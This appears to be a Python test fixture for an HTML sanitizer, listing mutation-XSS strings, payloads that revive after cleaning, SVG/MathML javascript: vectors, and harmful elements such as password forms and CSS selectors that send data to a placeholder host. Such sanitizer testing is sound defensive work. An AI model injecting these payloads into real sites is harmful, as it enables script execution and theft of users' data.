"""Markup that changes its meaning when a page is parsed again, and whole elements that do harm."""

from collections.abc import Iterator

from tests.payloads.markup import RUN, from_texts
from tests.payloads.payload import ELSEWHERE, MARK, Payload

IMG = f"<img src=x onerror={RUN}>"

MUTATIONS = (
    f'<svg></p><style><a id="</style>{IMG}">',
    f"<math><mtext><table><mglyph><style><!--</style>{IMG}-->",
    f"<form><math><mtext></form><form><mglyph><style></math>{IMG}",
    f"<math><mtext><mglyph><style><![CDATA[</style>{IMG}]]>",
    f'<svg><desc><title><a title="</title>{IMG}">',
    f"<select><option><style></select>{IMG}</style>",
    f"<table><td><svg><style></table>{IMG}</style>",
    f'<xmp><p title="</xmp>{IMG}">',
    f'<noembed><p title="</noembed>{IMG}">',
    f'<noframes><p title="</noframes>{IMG}">',
    f'<iframe><p title="</iframe>{IMG}">',
    f'<title><p title="</title>{IMG}">',
    f"<style><!--</style>{IMG}--></style>",
    f"<listing>&lt;img onerror={RUN}&gt;</listing>{IMG}",
    f"<a href='x'><svg><a href='javascript:{RUN}'>y",
    f"<p><b><p><b>{IMG}",
    f"<table><tr>{IMG}<td>",
    "<div>" * 300 + IMG,
    "<b>" * 300 + IMG,
    "<svg>" * 60 + f"<style>{IMG}",
    f"<!--><script>{RUN}</script>-->",
    f"<!-x>{IMG}",
    f"<?xml version='1.0'?>{IMG}",
    f"<![x[>{IMG}]]>",
    f"</x {IMG}>{IMG}",
)

# Harmless as it stands, and no longer once a cleaner took a part away or a browser read it again.
AFTER_CLEANING = (
    f'<noscript><p title="</noscript>{IMG}">',
    f'<svg><style><a title="</style>{IMG}">',
    f'<svg><foreignObject><style><!--</style><p title="-->{IMG}">',
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<img src=x one<b></b>rror={RUN}",
    f"<<b>img src=x onerror={RUN}<b>>",
    f"java<!-- -->script:{RUN}",
    f"<\x00img src=x onerror={RUN}>",
    f"< img src=x onerror={RUN} >",
    f"<im\u00adg src=x onerror={RUN}>",
    f"\u2039img src=x onerror={RUN}\u203a",
    f"<img src=x onerror={RUN}",
    f"<a href='javascript:{RUN}",
)

FOREIGN = (
    f"<svg><a xlink:href='javascript:{RUN}'><text y=9>x</text></a></svg>",
    f"<svg><a href=javascript:{RUN}><text y=9>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id={MARK} xmlns=x></svg>#{MARK}'/></svg>",
    f"<svg><use xlink:href=//{ELSEWHERE}/x.svg#y /></svg>",
    f"<svg><image href=x onerror={RUN} /></svg>",
    f"<svg><image href=//{ELSEWHERE}/x.png /></svg>",
    f"<svg><animate attributeName=href values=javascript:{RUN} /></svg>",
    f"<svg><set attributeName=onload to={RUN} /></svg>",
    f"<svg><set attributeName=href to=javascript:{RUN} /></svg>",
    f"<svg><animateTransform onbegin={RUN} attributeName=transform />",
    f"<svg><foreignObject><iframe src=javascript:{RUN}></iframe></foreignObject></svg>",
    f"<svg><handler type=text/javascript ev:event=load>{RUN}</handler><x {MARK}=1>",
    f"<svg><feImage href=//{ELSEWHERE}/x.png /></svg>",
    f"<svg><style>@import '//{ELSEWHERE}/x.css'</style></svg>",
    f"<math href=javascript:{RUN}><mi>x</mi></math>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x</maction></math>",
    f"<math><annotation-xml encoding=text/html>{IMG}</annotation-xml></math>",
    f"<math><mi><svg><p>{IMG}</math>",
    f"<math xlink:href='javascript:{RUN}' xlink:show=replace>x</math>",
)

WHOLE = (
    f"<base href=//{ELSEWHERE}/>",
    f"<base target={MARK}>",
    f"<meta http-equiv=refresh content='0;url=//{ELSEWHERE}/'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<meta http-equiv=set-cookie content={MARK}=1>",
    f"<meta name=referrer content=unsafe-url {MARK}=1>",
    f"<link rel=stylesheet href=//{ELSEWHERE}/x.css>",
    f"<link rel=stylesheet href='data:text/css,*{{--{MARK}:1}}'>",
    f"<link rel=prefetch href=//{ELSEWHERE}/>",
    f"<link rel=manifest href=//{ELSEWHERE}/x.json>",
    f"<style>*{{background:url(//{ELSEWHERE}/x)}}</style>",
    f"<style>@import '//{ELSEWHERE}/x.css';</style>",
    f"<style>input[value^=a]{{background:url(//{ELSEWHERE}/a)}}</style>",
    f"<p style='background:url(//{ELSEWHERE}/x)'>x",
    f"<p style='width:expression({RUN})'>x",
    f"<p style='behavior:url(//{ELSEWHERE}/x.htc)'>x",
    f"<p style='position:fixed;inset:0;--{MARK}:1'>x",
    f"<iframe src=//{ELSEWHERE}/></iframe>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe srcdoc='&lt;img src=x onerror=parent.{RUN}&gt;'></iframe>",
    f"<object data=javascript:{RUN}></object>",
    f"<object data=//{ELSEWHERE}/x.swf></object>",
    f"<embed src=//{ELSEWHERE}/x.swf>",
    f"<embed src=javascript:{RUN}>",
    f"<form action=//{ELSEWHERE}/><input name=password><button>Go</button></form>",
    f"<form action=javascript:{RUN}><button>Go</button></form>",
    f"<button formaction=javascript:{RUN} form={MARK}>Go</button>",
    f"<input type=submit formaction=//{ELSEWHERE}/ value=Go>",
    f"<isindex action=javascript:{RUN} type=image>",
    f"<img src=//{ELSEWHERE}/x.png>",
    f"<img src=x srcset='//{ELSEWHERE}/x.png 2x'>",
    f"<picture><source srcset=//{ELSEWHERE}/x.png><img src=x></picture>",
    f"<video poster=//{ELSEWHERE}/x.png></video>",
    f"<video src=//{ELSEWHERE}/x.mp4></video>",
    f"<audio src=//{ELSEWHERE}/x.mp3></audio>",
    f"<track src=//{ELSEWHERE}/x.vtt>",
    f"<body background=//{ELSEWHERE}/x.png>",
    f"<table background=//{ELSEWHERE}/x.png><td>x</table>",
    f"<a ping=//{ELSEWHERE}/ href=/>x</a>",
    f"<a href=/ id={MARK} name={MARK}>x</a><img name=getElementById id={MARK}>",
    f"<form id={MARK}><input name=attributes></form>",
    f"<portal src=//{ELSEWHERE}/></portal>",
    f"<template><{MARK}-x></template><{MARK}-x>",
    f"<slot name={MARK} onslotchange={RUN}></slot>",
    f"<p is={MARK}-x {MARK}=1>x</p>",
    f"<textarea name={MARK} {MARK}=1>",
    f"<plaintext {MARK}=1>",
)


def trees() -> Iterator[Payload]:
    yield from from_texts("mutation", "text", MUTATIONS)
    yield from (Payload("mutation by cleaning", text) for text in AFTER_CLEANING)
    yield from from_texts("SVG and MathML", "text", FOREIGN)
    yield from from_texts("element", "text", WHOLE)
